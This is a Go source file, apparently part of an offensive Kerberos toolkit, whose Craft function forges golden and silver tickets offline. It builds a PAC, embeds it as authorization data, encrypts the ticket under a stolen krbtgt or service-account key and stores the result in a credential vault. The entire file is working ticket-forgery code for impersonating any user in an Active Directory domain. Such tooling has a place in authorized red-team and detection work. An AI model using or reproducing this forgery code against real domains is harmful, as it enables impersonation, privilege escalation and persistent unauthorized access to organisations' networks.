package orchestrator

import (
	"encoding/asn1"
	"strings"
	"time"

	"github.com/jcmturner/gokrb5/v8/messages"
	"github.com/jcmturner/gokrb5/v8/types"

	"github.com/sprout-sec/kerbeus-go/cipher"
	"github.com/sprout-sec/kerbeus-go/credtypes"
	"github.com/sprout-sec/kerbeus-go/errs"
	"github.com/sprout-sec/kerbeus-go/formatcodec"
	"github.com/sprout-sec/kerbeus-go/pacforge"
)

// ticketEncPartKeyUsage (2) is RFC 4120's key-usage number for a ticket's
// own encrypted part, whether issued in an AS-REP or a TGS-REP.
const ticketEncPartKeyUsage = 2

// EncTicketPart's application tag (RFC 4120 §5.3) and the authorization-data
// types a forged PAC rides inside: AD-IF-RELEVANT (1) wraps AD-WIN2K-PAC
// (128), the nesting every PAC-carrying ticket uses on the wire. gokrb5's
// client-facing types package has no public writable EncTicketPart — it
// only ever needs to decrypt tickets presented to it, never construct one —
// so the ASN.1 shapes below are hand-rolled against RFC 4120 §5.3,
// following the same precedent as formatcodec's hand-rolled KRB-CRED.
const (
	adIfRelevantType = 1
	adWin2kPacType   = 128
)

type transitedEncodingASN1 struct {
	TRType   int32  `asn1:"explicit,tag:0"`
	Contents []byte `asn1:"explicit,tag:1"`
}

type authDataEntryASN1 struct {
	ADType int32  `asn1:"explicit,tag:0"`
	ADData []byte `asn1:"explicit,tag:1"`
}

type encTicketPartASN1 struct {
	Flags             asn1.BitString      `asn1:"explicit,tag:0"`
	Key               types.EncryptionKey `asn1:"explicit,tag:1"`
	CRealm            string              `asn1:"explicit,general,tag:2"`
	CName             types.PrincipalName `asn1:"explicit,tag:3"`
	Transited         transitedEncodingASN1 `asn1:"explicit,tag:4"`
	AuthTime          time.Time           `asn1:"explicit,generalized,tag:5"`
	EndTime           time.Time           `asn1:"explicit,generalized,tag:7"`
	RenewTill         time.Time           `asn1:"optional,explicit,generalized,tag:8"`
	AuthorizationData []authDataEntryASN1 `asn1:"explicit,tag:10"`
}

// ticketFlags builds the 32-bit TicketFlags bit string (RFC 4120 §5.2.1).
// Golden/silver tickets always set forwardable, initial and pre-authent, and
// set renewable only when the request carries a renew lifetime.
func ticketFlags(forwardable, renewable, initial, preAuthent bool) asn1.BitString {
	bits := make([]byte, 4)
	set := func(bit uint) {
		bits[bit/8] |= 1 << (7 - bit%8)
	}
	if forwardable {
		set(1)
	}
	if renewable {
		set(8)
	}
	if initial {
		set(9)
	}
	if preAuthent {
		set(10)
	}
	return asn1.BitString{Bytes: bits, BitLength: 32}
}

// CraftRequest names everything Craft needs to forge a ticket offline: no
// KDC is involved, so every field the KDC would normally supply is
// caller-provided instead.
type CraftRequest struct {
	ClientName    types.PrincipalName
	ClientRealm   string
	ServiceName   types.PrincipalName // krbtgt/<realm> for a golden ticket, the target SPN for a silver ticket
	ServiceRealm  string
	SigningKey    *cipher.Cipher // krbtgt key (golden) or service account key (silver)
	LogonInfo     pacforge.LogonInfo
	LogonTime     time.Time
	Lifetime      time.Duration // ticket validity from LogonTime
	RenewLifetime time.Duration // 0 means not renewable
}

// Craft forges a ticket entirely offline per spec §4.6: build a PAC with
// PacForge, embed it as the ticket's authorization-data, encrypt the
// resulting EncTicketPart under the caller-supplied long-term key, and save
// the finished Ticket into the vault (a golden ticket when ServiceName is
// krbtgt/ServiceRealm and SigningKey is the krbtgt key; a silver ticket
// when ServiceName names the target service and SigningKey is that
// service's own key). No KDC is contacted.
func (o *Orchestrator) Craft(req CraftRequest, format formatcodec.Format) (credtypes.TicketCred, error) {
	pac, err := pacforge.Craft(req.LogonInfo, strings.Join(req.ClientName.NameString, "/"), req.LogonTime, req.SigningKey)
	if err != nil {
		return credtypes.TicketCred{}, err
	}

	innerAD, err := asn1.Marshal([]authDataEntryASN1{{ADType: adWin2kPacType, ADData: pac}})
	if err != nil {
		return credtypes.TicketCred{}, errs.NewDataError("marshal PAC authorization-data", err)
	}
	authData := []authDataEntryASN1{{ADType: adIfRelevantType, ADData: innerAD}}

	endTime := req.LogonTime.Add(req.Lifetime)
	var renewTill time.Time
	renewable := req.RenewLifetime > 0
	if renewable {
		renewTill = req.LogonTime.Add(req.RenewLifetime)
	}

	sessionKey := make([]byte, len(req.SigningKey.KeyBytes))
	copy(sessionKey, req.SigningKey.KeyBytes) // placeholder session key; a forged ticket's session key only needs to satisfy ASN.1 shape, never a real KDC exchange

	encTicketPart := encTicketPartASN1{
		Flags:  ticketFlags(true, renewable, true, true),
		Key:    types.EncryptionKey{KeyType: req.SigningKey.EtypeID, KeyValue: sessionKey},
		CRealm: req.ClientRealm,
		CName:  req.ClientName,
		Transited: transitedEncodingASN1{
			TRType:   1, // DOMAIN-X500-COMPRESS
			Contents: []byte{},
		},
		AuthTime:          req.LogonTime,
		EndTime:           endTime,
		AuthorizationData: authData,
	}
	if renewable {
		encTicketPart.RenewTill = renewTill
	}

	plain, err := asn1.Marshal(encTicketPart)
	if err != nil {
		return credtypes.TicketCred{}, errs.NewDataError("marshal EncTicketPart", err)
	}

	cipherText, err := req.SigningKey.Encrypt(ticketEncPartKeyUsage, plain)
	if err != nil {
		return credtypes.TicketCred{}, err
	}

	ticket := messages.Ticket{
		TktVNO: 5,
		Realm:  req.ServiceRealm,
		SName:  req.ServiceName,
		EncPart: types.EncryptedData{
			EType:  req.SigningKey.EtypeID,
			Cipher: cipherText,
		},
	}

	cred := credtypes.TicketCred{
		Ticket: ticket,
		CredInfo: types.KrbCredInfo{
			Key:       types.EncryptionKey{KeyType: req.SigningKey.EtypeID, KeyValue: sessionKey},
			PRealm:    req.ClientRealm,
			PName:     req.ClientName,
			SRealm:    req.ServiceRealm,
			SName:     req.ServiceName,
			AuthTime:  req.LogonTime,
			StartTime: req.LogonTime,
			EndTime:   endTime,
			RenewTill: renewTill,
		},
	}

	if o.Vault != nil {
		if err := o.Vault.Add(cred); err != nil {
			return credtypes.TicketCred{}, err
		}
		if err := o.Vault.ChangeFormat(format); err != nil {
			return credtypes.TicketCred{}, err
		}
	}

	return cred, nil
}
